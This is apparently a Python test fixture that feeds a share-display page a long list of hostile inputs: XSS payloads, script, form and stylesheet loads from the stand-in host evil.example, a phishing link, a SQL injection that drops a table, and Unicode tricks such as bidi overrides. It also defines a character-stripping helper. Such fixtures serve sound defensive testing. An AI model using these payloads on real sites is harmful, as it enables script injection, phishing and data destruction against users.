"""Texts of a sender who means ill to whoever looks at the page."""

# Each breaks out of some place, or draws on a reader's trust, if it is let.
TEXTS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</h1><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=https://evil.example/x>",
    "<embed src=https://evil.example/x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.ogg autoplay>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<form action=https://evil.example/><input name=code><button>Go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>Open</a>",
    "<a href=\"https://evil.example/\">Verify your account</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--", "<!-- --!><script>alert(1)</script>", "<![CDATA[", "]]>",
    "<?php echo 1 ?>", "<!DOCTYPE html>", "</body></html><script>alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;", "&", "&amp", "&;", "&#0;", "&#xD800;", "&nbsp;",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)", "\" autofocus onfocus=alert(1) x=\"",
    "\\\"><img src=x onerror=alert(1)>", "\\u003cscript\\u003e",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 1 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "%s%s%s%n%n%n", "%", "%%", "'; drop table relay.mailbox; --",
    "\u2028\u2029", "\u202eevil\u202c", "\u2066\u2069\u202a\u202b\u202d",
    "a\u0000b", "\u0001\u0008\u001b[31mred", "one\r\ntwo\ttabs",
    "\u007f\u0080\u009f", "\ufffe\uffff", "\U0001fffe\ufdd0",
    "\ufeffBOM", "\u200b\u200c\u200d\u2060", "\u00ad\u034f\u115f",
    "e" + "\u0301" * 60, "\u0e47" * 60, "\u05d0\u05d1 left and right \u0627",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd",
    "\U000e0041\U000e007f", "\ue000", "\U0010fffd", "W" * 128, " ", "   ",
    "\u00a0", "\u3000", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02c2script\u02c3", "\u00bcscript\u00be",
]

IMAGES = [
    "https://evil.example/pixel.png",
    "https://evil.example/?a=1&b=<script>alert(1)</script>",
    "https://evil.example/\"><script>alert(1)</script>",
    "https://evil.example/' onerror='alert(1)",
    "https://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://evil.example/&quot;&gt;&lt;script&gt;",
    "https://evil.example/#\"><img src=x onerror=alert(1)>",
    "https://evil.example/;url=javascript:alert(1)",
    "https://evil.example/{{7*7}}",
    "https://127.0.0.1/%00", "https://[::1]/x", "https://evil.example:1/",
    "https://xn--e1afmkfd.example/", "https://evil.example/" + "a" * 2000,
]

HARMLESS = "A key"
IMAGE = "https://images.example/key.png"


def shares():
    """Display informations, all different."""
    for text in TEXTS:
        yield {"title": text[:128], "description": HARMLESS, "imageURL": IMAGE}
        yield {"title": HARMLESS, "description": text * (512 // len(text)),
               "imageURL": IMAGE}
    for image in IMAGES:
        yield {"title": HARMLESS, "description": HARMLESS, "imageURL": image}


def shown(text):
    """What the page makes of a text: without characters that are not seen
    and deceive, and without those that HTML does not allow."""
    kept = [c for c in text if not (
        c < " " or "\x7f" <= c <= "\x9f" or "\u202a" <= c <= "\u202e" or
        "\u2066" <= c <= "\u2069")]
    return "".join("\ufffd" if "\ufdd0" <= c <= "\ufdef" or
                   ord(c) & 0xfffe == 0xfffe else c for c in kept)
